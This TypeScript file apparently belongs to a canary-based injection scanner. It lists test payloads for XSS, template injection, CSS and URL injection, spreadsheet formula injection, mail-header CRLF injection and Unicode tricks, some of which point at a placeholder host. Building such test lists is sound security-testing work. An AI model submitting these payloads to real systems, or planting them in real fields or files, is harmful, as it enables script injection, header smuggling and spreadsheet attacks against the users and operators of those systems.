/** Texts to type; `$` is the canary's own word. The first one that a field accepts stays there. */
export const PAYLOADS = {
  markup: [
    `$"'><$ onx=1><img src=x onerror=$()><script>$()</script>`,
    `$</title></textarea></style></script></noscript><svg onload=$()>`,
    `$"autofocus onfocus="$()`,
    `<$>`,
  ],
  script: [
    `$</script><script>$()</script><!--<script>`,
    `$\\";$();//`,
    "$\u2028$()\u2029`${$()}`",
    "$-'+$()+'",
  ],
  template: [
    "${$}{{$}}#{$}<%=$%>{%$%}[[$]]",
    "$ {{constructor.constructor('$()')()}}",
    "$ $t(mail:x) {{name}} __proto__",
    "$ %s %n %d",
  ],
  style: [
    `$;}</style><style>*{background:url(//$.example)}`,
    `$;background:url(//$.example);x:expression($())`,
    `$ url(javascript:$())`,
  ],
  address: [
    `javascript:$()//`,
    `//$.example/x`,
    `https://$.example/`,
    `data:text/html,<script>$()</script>`,
  ],
  formula: [`=HYPERLINK("//$.example","x")`, `=$`],
  "formula-at": [`@SUM($)`, `@$`],
  "formula-sign": [`+$`],
  "formula-minus": [`-$`],
  "formula-tab": [`\t=$`, ` =$`],
  "formula-cell": [`x;=$()`, `;=$`],
  "formula-tab-cell": [`x\t=$()`, `x;@$`],
  "formula-line": [`x\n=$()`, `x\r=$`, `x;+$`],
  "formula-quote": [`x";=$()`, `x";-$`],
  "formula-wide": [`\uff1d$`, `\uff0b$`],
  lines: [`$\r\nX-$: 1\r\n\r\n<$>`, `$\nBcc: $@people.example`, `$\u0085X-$: 1`, `$%0d%0aX-$:1`],
  signs: [`$\u202e\u2066x\u0000\ufeff`, `$${"\u0300".repeat(20)}`, `$ \u00ad\u200b`],
  plain: ["$"],
} as const satisfies Readonly<Record<string, readonly string[]>>;

export type PayloadKind = keyof typeof PAYLOADS;

/** Mail addresses whose letters mean something in markup, formulas and templates. */
export const MAILBOXES = ["=$+cmd", "+$", "-$", "'$'", "{$}", "$`x`", "|$", "$"];
